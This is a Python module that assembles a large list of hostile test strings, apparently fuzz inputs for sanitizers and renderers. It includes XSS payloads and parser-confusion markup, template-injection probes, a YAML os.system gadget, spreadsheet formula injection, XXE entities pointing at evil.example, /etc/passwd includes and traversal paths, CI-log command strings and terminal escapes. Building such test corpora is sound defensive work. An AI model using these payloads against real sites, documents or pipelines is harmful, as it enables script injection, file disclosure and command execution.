"""Strings that have broken Markdown, HTML, templates, YAML, spreadsheets or terminals elsewhere, made by families.

The families are those of the OWASP cheat sheets and of the tests of HTML sanitizers; each string is made here from parts.
"""

from collections.abc import Iterator
from itertools import product

# fmt: off
CODE = "alert(1)"
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", "&#106;avascript:",
    "javascript&colon;", "vbscript:", "data:text/html,", "data:text/html;base64,", "//evil.example/",
    "file:///etc/passwd?",
)
LINKS = (
    "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "[x]({} 'y')", '<a href="{}">x</a>',
    "[![x](y)]({})", "[x][y]\n[y]: {}",
)
TAGS = (
    "img src=x", "svg", "body", "details open", "iframe src=//evil.example", "video src=x", "input autofocus",
    "math href=//evil.example", "marquee", "object data=//evil.example", "a href=//evil.example", "x-y",
    "form action=//evil.example",
)
HANDLERS = ("onload", "onerror", "onfocus", "ontoggle", "onmouseover")
ENDS = (
    "</title>", "</script>", "</style>", "</textarea>", "</p>", "-->", "]]>", "'>", '">', "</svg>", "</noscript>",
    "</template>", "</a>",
)
STARTS = (
    "<script>", "<style>*{display:none}", "<!--", "<![CDATA[", "<?php ", "<!DOCTYPE x>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;//evil.example>", "<link rel=stylesheet href=//evil.example>", "<plaintext>",
    "<textarea>", "<title>", "<template>", "<iframe srcdoc='&lt;script>'>",
)
MARKDOWN = (
    "**", "__x__", "*x*", "`x`", "``x``", "```\nx\n```", "~~~\nx\n~~~", "~~x~~", "==x==", "^x^", "# x", "## x ##",
    "x\n===", "x\n---", "> x", "> > x", "- x", "* x", "+ x", "1. x", "1) x", "- [x] x", "---", "***",
    "| a | b |\n|---|---|\n| 1 | 2 |", "a | b\n--- | ---", "    x", "\tx", "[x]", "[^1]", "[^1]: x", "*[x]: y",
    "x\n: y", "!!! note\n    x", "??? note", '=== "x"', "::: x", "/// x", "[TOC]", "[[x]]", "@x", ":smile:", "$x$",
    "\\(x\\)", "{++x++}", "{--x--}", "{==x==}", "H~2~O", "x{: .y}", "{: onclick=alert(1) }", "{ #__search }",
    '--8<-- "/etc/passwd"', ";--8<--", "{!/etc/passwd!}", "<!-- dateline:about -->", "<!-- /dateline:byline -->",
    "<!-- dateline:x -->\n<!-- /dateline:x -->", "__search", "window",
)
TEMPLATES = (
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{# x #}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{ config }}",
    "{{ self.__init__ }}", "%(x)s", "{0}",
)
FRONT_MATTER = (
    "---\ntitle: x\n---", "---", "...", "title: x", "template: x.html", "- x", "!!python/object/apply:os.system [x]",
    "&a [*a]", "*x", "? x", "| x", "> x", "@x", "%YAML 1.1", "yes", "no", "null", "~", "0x10", "1e3", "12:30",
    "2022-01-01", "'", '"', "# x", "x: y: z", "{x: y}", "[x",
)
FORMULAS = (
    *(f'{sign}HYPERLINK("http://evil.example")' for sign in "=+-@"),
    "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "%0A=1", "|x",
)
UNSEEN = tuple(
    f"a{char}b" for char in
    "\x00\x02\x03\x07\x1b\x7f\x85\u00ad\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202e"
    "\u2060\u2066\u2069\ufeff\ufffe\uffff\U000e0041"
)
TERMINAL = ("\x1b[31mx", "\x1b]0;x\x07", "\x1b[2J", "\x9b31m", "a\rb", "a\x08b")
PLACEHOLDERS = (
    "\x02wzxhzdk:0\x03", "\x02klzzwxh:0001\x03", "wzxhzdk:0", "klzzwxh:0001", "\x0260\x03", "STX60ETX", "\x02amp\x03",
)
ENTITIES = (
    "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&LT;script>", "&lt", "&amp;lt;", "&notit;", "&#0;",
    "&#x110000;", "&bsol;", "&colon;", "&NewLine;",
)
# What a browser's parser takes apart and puts together otherwise: foreign elements, and what ends or hides text in them.
FOREIGN = ("svg", "math", "math><mtext><table><mglyph", "form><math><mtext></form><form><mglyph", "svg><desc", "noscript")
HIDING = ("style", "title", "textarea", "xmp", "noembed", "template", "script", "!--", "![CDATA[")
BLOCK_MARKS = tuple(
    form.format(name) for form in ("<!-- dateline:{} -->", "<!-- /dateline:{} -->", "<!--dateline:{0}-->x<!--/dateline:{0}-->")
    for name in ("related", "summary", "evidence")
)
EXTENDED = (
    "[x](jav&#x09;ascript:alert(1))", "[x](\\\\evil.example/x)", "[x](<java\x00script:alert(1)>)", "[x](blob:x)", "[x](view-source:x)",
    "<javascript:alert(1)>", "[x](http://evil.example\\@good.example/)", "[x](https://good.example%2f@evil.example/)", "x {.md-button}",
    "https://evil.example/?a=1&lt;b", "[x]: javascript:alert(1)\n[x]", "> [!DANGER]\n> x", "- {: .x }\n  y", "\\[x\\](javascript:alert(1))",
    "]: javascript:alert(1)", "x]: //evil.example (y)",
    "[x]: http://evil.example 'y'\n\n[x][x] [x][] [x]", "![x][y]\n\n[y]: http://evil.example/y.png", "<http://evil.example>",
    "<x@evil.example>", "x[^1]\n\n[^1]: y", "*[HTML]: x\n\nHTML", '!!! danger "x"\n    y', "!!! note\n\n    <b>x</b>",
    '??? x "y"\n    z', '=== "A"\n    x\n=== "B"\n    y', ":octicons-alert-16:", ":material-alert:{ .x }", "--8<--\n/etc/passwd\n--8<--",
    '--8<-- "https://evil.example/x"', "```mermaid\ngraph LR\n  x-->y\n```", "``` { .python .annotate hl_lines=1 }\nx\n```", "$$\nx\n$$",
    "\\[x\\]", "{>>x<<}", "{~~x~>y~~}", "++ctrl+alt+del++", '++"x"++', "- [ ] x\n- [x] y", "==x=={ .y }", "#!python x",
    "`#!js x`", "(c) (tm) --> 1/2", "[x](y){: target=_blank }", "{: .x onclick=alert(1) }\nx", "x\n{: #__toc }", "<!-- more -->",
    "[=50% 'x']", "{% raw %}{{ x }}{% endraw %}", "{{ page.content }}", "{%- for x in y -%}", "~~~ x\n<b>\n~~~", "[^x]", "^[x]",
)
FEEDS = (
    "]]]]><![CDATA[>", '<?xml version="1.0"?>', '<?xml-stylesheet href="//evil.example/x.xsl"?>', '<!DOCTYPE x [<!ENTITY y "z">]>&y;',
    '<!ENTITY % x SYSTEM "//evil.example/x">%x;', "<xi:include href='/etc/passwd'/>", "<!--<script>", "<!-- --!> <script>",
    "</script ><script>x", "\\u003c/script\\u003e", '"}]}</script>', "\u2028x\u2029", '{"@context":"//evil.example"}',
)
CALENDAR = (
    "x\r\nATTACH:http://evil.example/x", "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:y", "x\\nATTENDEE:y", "x\r\n BEGIN:VALARM", "x;VALUE=URI:y",
    "X" * 74 + "\r\n\tY", "é" * 40 + "\nDTSTART:19700101",
)
LOGS = (
    "::error file=x,line=1::y", "::set-output name=x::y", "::add-mask::x", "::stop-commands::x", "  ::warning::x", "x\n::error::y",
    "x\r::error::y", "##[error]x", "x ##[add-mask]y", "##vso[task.setvariable variable=x]y", "%0A::error::x",
)
LETTERS = (
    "Z" + "\u0300\u0321\u0489" * 40, "\u0301x", "\u202eexe.txt\u202c", "\u2067x\u2069", "\ufdfd" * 20, "\U0001f468\u200d\U0001f469",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\uff1cscript\uff1e", "\u212a\u017f\u0130\u0131", "\u1e9e\ufb03", "\u3164", "\ud800",
    "\udfff\ud800", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201",
)
HOSTS = (
    "http://раypal.com/", "http://user:pass@evil.example@good.example/", "http://[::1]/", "http://127.1/",
    "mailto:x@y.example?body=z", "HTTP://EXAMPLE.ORG", "https://xn--80ak6aa92e.com/", "www.evil.example",
    "http://a.b/c(d)e)", "http://a.b/_c_*d*", "ftp://x", "x@y.example",
)
PATHS = ("../../x", "..\\x", "con", "/etc/passwd", "x\x00.md", "C:\\x", "a/b.md", ".", "..", "~", "index")
DEEP = (
    "[" * 300, "]" * 300, "(" * 300, "> " * 120, "- " * 120, "*" * 301, "_" * 301, "`" * 301, "<" * 300, "&" * 300,
    "\\" * 301, "<b>" * 100, "![" * 150, "[x](" * 80, "{" * 200, "|" * 200,
)


FAMILIES = (
    MARKDOWN, EXTENDED, BLOCK_MARKS, TEMPLATES, FRONT_MATTER, FORMULAS, FEEDS, CALENDAR, LOGS, UNSEEN, LETTERS, TERMINAL, PLACEHOLDERS,
    ENTITIES, HOSTS, PATHS, DEEP,
)
# fmt: on


def _make() -> Iterator[str]:
    yield from (form.format(scheme + CODE) for scheme, form in product(SCHEMES, LINKS))
    yield from (f"<{tag} {handler}={CODE}>" for tag, handler in product(TAGS, HANDLERS))
    yield from (f"{end}<script>{CODE}</script>" for end in ENDS)
    yield from (f"{end}<img src=x onerror={CODE}>" for end in ENDS)
    yield from (f"{start}{CODE}" for start in STARTS)
    yield from (f"x{start}{CODE}{end}" for start, end in zip(STARTS, ENDS, strict=False))
    yield from (f'x" {handler}="{CODE}' for handler in HANDLERS)
    yield from (f"x' {handler}='{CODE}" for handler in HANDLERS)
    yield from (f"<{out}><{hide}><img src=x onerror={CODE}></{hide}>" for out, hide in product(FOREIGN, HIDING))
    yield from (f'<{out}><{hide}><a title="</{hide}><img src=x onerror={CODE}>">' for out, hide in product(FOREIGN[:2], HIDING))
    yield from (f"<ScRiPt\t{space}>{CODE}" for space in ("", "/", "x=", "\n"))
    for family in FAMILIES:
        yield from family


ATTACKS = tuple(dict.fromkeys(_make()))
